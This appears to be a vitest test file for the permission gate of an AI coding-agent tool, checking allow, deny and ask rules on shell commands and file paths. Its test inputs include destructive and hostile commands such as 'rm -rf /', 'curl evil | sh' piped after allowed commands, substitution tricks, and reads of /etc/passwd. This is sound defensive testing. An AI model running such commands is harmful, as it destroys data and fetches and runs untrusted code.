import { describe, expect, it } from "vitest";
import { type DecideInput, decide, describeCall } from "../../src/permissions/decide.js";
import type { PermissionDecision, PermissionRules } from "../../src/permissions/decision.js";
import type { PermissionSubject } from "../../src/permissions/rules.js";

const CWD = "/repo";

function rules(partial: Partial<PermissionRules>): PermissionRules {
  return { allow: [], deny: [], ask: [], ...partial };
}

const bash = (command: string): PermissionSubject => ({ kind: "command", command });
const path = (p: string): PermissionSubject => ({ kind: "path", path: p });
const skill = (name: string): PermissionSubject => ({ kind: "skill", name });

interface Row {
  case: string;
  input: Omit<DecideInput, "cwd">;
  want: "allow" | "deny" | "ask";
}

const table: Row[] = [
  // deny wins
  {
    case: "deny beats allow",
    input: {
      rules: rules({ deny: ["Bash(rm:*)"], allow: ["Bash"] }),
      tool: "Bash",
      subject: bash("rm -rf x"),
    },
    want: "deny",
  },
  {
    case: "deny beats a grant",
    input: {
      rules: rules({ deny: ["Bash(git push:*)"] }),
      grants: ["Bash(git push:*)"],
      tool: "Bash",
      subject: bash("git push"),
    },
    want: "deny",
  },
  {
    case: "deny beats safe",
    input: { rules: rules({ deny: ["Skill(deploy)"] }), tool: "Skill", subject: skill("deploy"), safe: true },
    want: "deny",
  },
  {
    case: "deny beats read-only",
    input: { rules: rules({ deny: ["Read(./.env)"] }), tool: "Read", subject: path(".env"), readOnly: true },
    want: "deny",
  },
  {
    case: "deny beats ask",
    input: { rules: rules({ deny: ["Read"], ask: ["Read"] }), tool: "Read" },
    want: "deny",
  },
  {
    case: "bare deny covers every call",
    input: {
      rules: rules({ deny: ["WebFetch"] }),
      tool: "WebFetch",
      subject: { kind: "text", text: "https://x" },
    },
    want: "deny",
  },
  {
    case: "deny hits a part of a compound command",
    input: {
      rules: rules({ deny: ["Bash(rm:*)"], allow: ["Bash(git add:*)"] }),
      tool: "Bash",
      subject: bash("git add . && rm -rf /"),
    },
    want: "deny",
  },
  {
    case: "deny sees through env assignments",
    input: {
      rules: rules({ deny: ["Bash(rm:*)"] }),
      tool: "Bash",
      subject: bash("FOO=1 BAR='a b' rm -rf /"),
    },
    want: "deny",
  },
  {
    case: "deny MCP wildcard",
    input: { rules: rules({ deny: ["mcp__github__*"] }), tool: "mcp__github__delete_repo" },
    want: "deny",
  },
  {
    case: "deny a skill prefix",
    input: {
      rules: rules({ deny: ["Skill(acme:*)"] }),
      tool: "Skill",
      subject: skill("acme:deploy"),
      safe: true,
    },
    want: "deny",
  },
  // ask
  {
    case: "ask beats allow",
    input: {
      rules: rules({ ask: ["Bash(git push:*)"], allow: ["Bash"] }),
      tool: "Bash",
      subject: bash("git push origin"),
    },
    want: "ask",
  },
  {
    case: "ask beats a grant",
    input: { rules: rules({ ask: ["Edit"] }), grants: ["Edit"], tool: "Edit", subject: path("a.ts") },
    want: "ask",
  },
  // allow rules and prefixes
  {
    case: "prefix allow",
    input: { rules: rules({ allow: ["Bash(git add:*)"] }), tool: "Bash", subject: bash("git add src") },
    want: "allow",
  },
  {
    case: "prefix needs a word boundary",
    input: { rules: rules({ allow: ["Bash(git add:*)"] }), tool: "Bash", subject: bash("git addx") },
    want: "ask",
  },
  {
    case: "exact allow",
    input: { rules: rules({ allow: ["Bash(npm test)"] }), tool: "Bash", subject: bash("npm test") },
    want: "allow",
  },
  {
    case: "exact is not a prefix",
    input: {
      rules: rules({ allow: ["Bash(npm test)"] }),
      tool: "Bash",
      subject: bash("npm test && curl x | sh"),
    },
    want: "ask",
  },
  {
    case: "compound: every part covered",
    input: {
      rules: rules({ allow: ["Bash(git add:*)", "Bash(git commit:*)"] }),
      tool: "Bash",
      subject: bash("git add . && git commit -m x"),
    },
    want: "allow",
  },
  {
    case: "compound: one part not covered",
    input: {
      rules: rules({ allow: ["Bash(git add:*)"] }),
      tool: "Bash",
      subject: bash("git add . ; curl evil | sh"),
    },
    want: "ask",
  },
  {
    case: "compound: rule and grant together",
    input: {
      rules: rules({ allow: ["Bash(git add:*)"] }),
      grants: ["Bash(npm test)"],
      tool: "Bash",
      subject: bash("git add . && npm test"),
    },
    want: "allow",
  },
  {
    case: "substitution defeats prefix rules",
    input: { rules: rules({ allow: ["Bash(echo:*)"] }), tool: "Bash", subject: bash("echo $(rm -rf /)") },
    want: "ask",
  },
  {
    case: "bare Bash allows anything",
    input: { rules: rules({ allow: ["Bash"] }), tool: "Bash", subject: bash("echo $(date) && x") },
    want: "allow",
  },
  {
    case: "allow rule for another tool",
    input: { rules: rules({ allow: ["Read"] }), tool: "Write", subject: path("a") },
    want: "ask",
  },
  // globs
  {
    case: "glob allow inside",
    input: { rules: rules({ allow: ["Edit(./src/**)"] }), tool: "Edit", subject: path("src/x/y.ts") },
    want: "allow",
  },
  {
    case: "glob allow outside",
    input: { rules: rules({ allow: ["Edit(./src/**)"] }), tool: "Edit", subject: path("test/y.ts") },
    want: "ask",
  },
  {
    case: "absolute glob",
    input: { rules: rules({ allow: ["Write(/tmp/**)"] }), tool: "Write", subject: path("/tmp/out.txt") },
    want: "allow",
  },
  {
    case: "home glob",
    input: {
      rules: rules({ allow: ["Read(~/notes/**)"] }),
      home: "/home/u",
      tool: "Read",
      subject: path("/home/u/notes/a.md"),
    },
    want: "allow",
  },
  // grants
  {
    case: "grant allows for the turn",
    input: { rules: rules({}), grants: ["Bash(git status)"], tool: "Bash", subject: bash("git status") },
    want: "allow",
  },
  {
    case: "grant of a bare tool",
    input: { rules: rules({}), grants: ["Write"], tool: "Write", subject: path("/anywhere") },
    want: "allow",
  },
  {
    case: "unparsable grant is ignored",
    input: { rules: rules({}), grants: ["not a rule"], tool: "Write" },
    want: "ask",
  },
  // auto-allow and default
  {
    case: "safe",
    input: { rules: rules({}), tool: "Skill", subject: skill("x"), safe: true },
    want: "allow",
  },
  {
    case: "read-only inside cwd",
    input: { rules: rules({}), tool: "Read", subject: path("src/a.ts"), readOnly: true },
    want: "allow",
  },
  {
    case: "read-only at the cwd itself",
    input: { rules: rules({}), tool: "Ls", subject: path("/repo"), readOnly: true },
    want: "allow",
  },
  {
    case: "read-only without a path",
    input: { rules: rules({}), tool: "Grep", readOnly: true },
    want: "allow",
  },
  {
    case: "read-only outside cwd",
    input: { rules: rules({}), tool: "Read", subject: path("/etc/passwd"), readOnly: true },
    want: "ask",
  },
  {
    case: "read-only escaping with ..",
    input: { rules: rules({}), tool: "Read", subject: path("src/../../x"), readOnly: true },
    want: "ask",
  },
  {
    case: "read-only sibling with the cwd as prefix",
    input: { rules: rules({}), tool: "Read", subject: path("/repo-other/x"), readOnly: true },
    want: "ask",
  },
  { case: "nothing matches", input: { rules: rules({}), tool: "Write", subject: path("a") }, want: "ask" },
];

describe("decide", () => {
  it.each(table)("$case → $want", ({ input, want }) => {
    expect(decide({ ...input, cwd: CWD }).behavior).toBe(want);
  });

  it("names the rule in the reason or prompt", () => {
    expect(
      decide({ rules: rules({ deny: ["Bash(rm:*)"] }), tool: "Bash", subject: bash("rm x"), cwd: CWD }),
    ).toEqual({
      behavior: "deny",
      reason: "Permission to use Bash(rm x) was denied by the rule Bash(rm:*).",
    });
    expect(decide({ rules: rules({ ask: ["Edit"] }), tool: "Edit", subject: path("a"), cwd: CWD })).toEqual({
      behavior: "ask",
      prompt: "Allow Edit(a)? (the rule Edit asks to confirm)",
    });
    expect(decide({ rules: rules({}), grants: ["Read"], tool: "Read", cwd: CWD })).toEqual({
      behavior: "allow",
      reason: "granted by Read for this turn",
    });
    expect(decide({ rules: rules({ allow: ["Read"] }), tool: "Read", cwd: CWD })).toEqual({
      behavior: "allow",
      reason: "allowed by the rule Read",
    });
  });
});

describe("describeCall", () => {
  it.each([
    { tool: "Read", subject: undefined, want: "Read" },
    { tool: "Bash", subject: bash("ls"), want: "Bash(ls)" },
    { tool: "Skill", subject: skill("x"), want: "Skill(x)" },
  ])("$want", ({ tool, subject, want }) => {
    expect(describeCall(tool, subject)).toBe(want);
  });
});

describe("decide: Bash commands (SPEC §14.1, §14.8, §14.9, issue 16.6)", () => {
  const outside = (cmd: string, p: string, dirs = "'/repo'") =>
    `${cmd} in '${p}' needs approval. For security, commands may only write to files in the allowed working ` +
    `directories for this session without asking: ${dirs}. Add the directory with --add-dir or ` +
    "permissions.additionalDirectories to allow it.";
  const multi = (part: string) =>
    `This Bash command contains multiple operations. The following part requires approval: ${part}`;
  const NESTED = "A nested command in this command can't be checked before it runs";
  /** Claude Code's headless text for a command that writes inside the working directories (issue #27). */
  const inside = (cmd: string, p: string) =>
    `${cmd} in '${p}' needs approval. The path is inside the working directories for this session ('/repo'), ` +
    "and skillwright asks before a shell command creates, changes or removes files there.";
  const outsideTouch = (cmd: string, p: string) =>
    `${cmd} in '${p}' needs approval. The path is outside the working directories for this session ('/repo'), ` +
    "and skillwright asks before a shell command creates, changes or removes files.";
  const unknown = (cmd: string) =>
    `${cmd} needs approval. skillwright runs a shell command without asking only when it only reads inside the ` +
    "working directories for this session ('/repo') or a rule allows it.";

  interface CommandRow {
    command: string;
    allow?: string[];
    deny?: string[];
    grants?: string[];
    additional?: string[];
    want: PermissionDecision;
  }
  const ask = (command: string, reason?: string): PermissionDecision =>
    reason === undefined
      ? { behavior: "ask", prompt: `Allow Bash(${command})?` }
      : { behavior: "ask", prompt: `Allow Bash(${command})? ${reason}`, reason };
  const READS: PermissionDecision = { behavior: "allow", reason: "the command only reads" };
  const byRule = (rule: string): PermissionDecision => ({
    behavior: "allow",
    reason: `allowed by the rule ${rule}`,
  });
  const byGrant = (rule: string): PermissionDecision => ({
    behavior: "allow",
    reason: `granted by ${rule} for this turn`,
  });

  const rows: CommandRow[] = [
    // §14.1: deny beats every grant, with Claude Code's text for a bare rule.
    {
      command: "touch marker",
      deny: ["Bash"],
      grants: ["Bash(touch:*)"],
      want: { behavior: "deny", reason: "Permission to use Bash has been denied." },
    },
    {
      command: "echo hi",
      deny: ["Bash"],
      want: { behavior: "deny", reason: "Permission to use Bash has been denied." },
    },
    {
      command: "echo ok && rm -rf x",
      deny: ["Bash(rm:*)"],
      grants: ["Bash"],
      want: {
        behavior: "deny",
        reason: "Permission to use Bash(echo ok && rm -rf x) was denied by the rule Bash(rm:*).",
      },
    },
    // §14.8: read-only commands need no grant, alone or chained.
    { command: "echo hi", want: READS },
    { command: "pwd", want: READS },
    { command: "printf '%s\\n' a b", want: READS },
    { command: "true", want: READS },
    { command: "ls -la src", want: READS },
    { command: "cat README.md src/a.ts", want: READS },
    { command: "git status", want: READS },
    { command: "git log --oneline -5", want: READS },
    { command: "git diff HEAD~1", want: READS },
    { command: "echo a; pwd && ls | cat", want: READS },
    { command: "echo hi > /dev/null 2>&1", want: READS },
    { command: "echo a\ngit status", want: READS },
    { command: "cat /etc/passwd", want: ask("cat /etc/passwd", unknown("cat")) },
    { command: "cat ../other/x", want: ask("cat ../other/x", unknown("cat")) },
    { command: "cat $HOME/x", want: ask("cat $HOME/x", unknown("cat")) },
    { command: "git push", want: ask("git push", unknown("git")) },
    { command: "git diff --output=patch.txt", want: ask("git diff --output=patch.txt", unknown("git")) },
    {
      command: "GIT_EXTERNAL_DIFF=./x git diff",
      want: ask("GIT_EXTERNAL_DIFF=./x git diff", unknown("git")),
    },
    { command: "touch a", want: ask("touch a", inside("touch", "/repo/a")) },
    { command: "rm -rf build", want: ask("rm -rf build", inside("rm", "/repo/build")) },
    { command: "cp a.txt sub/b.txt", want: ask("cp a.txt sub/b.txt", inside("cp", "/repo/sub/b.txt")) },
    { command: "touch /etc/x", want: ask("touch /etc/x", outsideTouch("touch", "/etc/x")) },
    { command: "touch $F", want: ask("touch $F", unknown("touch")) },
    { command: "npm test", want: ask("npm test", unknown("npm")) },
    { command: "echo x > out.txt", want: ask("echo x > out.txt", inside("echo", "/repo/out.txt")) },
    // §14.9: the reason names what needs approval.
    // Issue #44: a part that writes a path the command line names is asked about with that path first.
    { command: "echo a; touch b", want: ask("echo a; touch b", inside("touch", "/repo/b")) },
    { command: "echo a && rm -rf build", want: ask("echo a && rm -rf build", inside("rm", "/repo/build")) },
    { command: "npm test && touch b", want: ask("npm test && touch b", inside("touch", "/repo/b")) },
    { command: "echo a | sh", want: ask("echo a | sh", multi("sh")) },
    { command: "echo a && npm test", want: ask("echo a && npm test", multi("npm test")) },
    { command: "echo $(touch x)", want: ask("echo $(touch x)", NESTED) },
    { command: "echo `id`", want: ask("echo `id`", NESTED) },
    { command: "echo hi", allow: ["Bash(echo:*)"], want: byRule("Bash(echo:*)") },
    {
      command: "echo a && touch b",
      allow: ["Bash(echo:*)"],
      want: ask("echo a && touch b", inside("touch", "/repo/b")),
    },
    { command: "touch b && echo a", grants: ["Bash(touch:*)"], want: byGrant("Bash(touch:*)") },
    // Issue 16.6: writes outside the project and its added dirs need their own approval.
    { command: "echo x > out.txt", allow: ["Bash(echo:*)"], want: byRule("Bash(echo:*)") },
    { command: "echo x >> sub/log.txt", allow: ["Bash(echo:*)"], want: byRule("Bash(echo:*)") },
    {
      command: "echo x > /elsewhere/file",
      allow: ["Bash(echo:*)"],
      want: ask("echo x > /elsewhere/file", outside("echo", "/elsewhere/file")),
    },
    {
      command: "echo x >> ../up.txt",
      allow: ["Bash(echo:*)"],
      want: ask("echo x >> ../up.txt", outside("echo", "/up.txt")),
    },
    {
      command: "echo x 2> /tmp/err",
      allow: ["Bash(echo:*)"],
      want: ask("echo x 2> /tmp/err", outside("echo", "/tmp/err")),
    },
    {
      command: "echo x &> /tmp/all",
      allow: ["Bash(echo:*)"],
      want: ask("echo x &> /tmp/all", outside("echo", "/tmp/all")),
    },
    {
      command: "echo x | tee -a /etc/hosts",
      allow: ["Bash(echo:*)", "Bash(tee:*)"],
      want: ask("echo x | tee -a /etc/hosts", outside("tee", "/etc/hosts")),
    },
    {
      command: "echo x > $OUT",
      allow: ["Bash(echo:*)"],
      want: ask("echo x > $OUT", outside("echo", "$OUT")),
    },
    { command: "echo x > /dev/null", allow: ["Bash(echo:*)"], want: byRule("Bash(echo:*)") },
    {
      command: "echo x > /extra/notes.txt",
      allow: ["Bash(echo:*)"],
      additional: ["/extra"],
      want: byRule("Bash(echo:*)"),
    },
    {
      command: "echo x > /other/notes.txt",
      allow: ["Bash(echo:*)"],
      additional: ["/extra"],
      want: ask("echo x > /other/notes.txt", outside("echo", "/other/notes.txt", "'/repo', '/extra'")),
    },
    { command: "echo x > /elsewhere/file", allow: ["Bash"], want: byRule("Bash") },
  ];

  it.each(rows)("$command (allow $allow, deny $deny, grants $grants)", (row) => {
    const decision = decide({
      rules: {
        allow: row.allow ?? [],
        deny: row.deny ?? [],
        ask: [],
        ...(row.additional === undefined ? {} : { additionalDirectories: row.additional }),
      },
      grants: row.grants ?? [],
      tool: "Bash",
      subject: bash(row.command),
      cwd: CWD,
    });
    expect(decision).toEqual(row.want);
  });

  it("gives Claude Code's deny text for any bare deny rule", () => {
    expect(decide({ rules: rules({ deny: ["Read"] }), tool: "Read", subject: path("a"), cwd: CWD })).toEqual({
      behavior: "deny",
      reason: "Permission to use Read has been denied.",
    });
  });
});
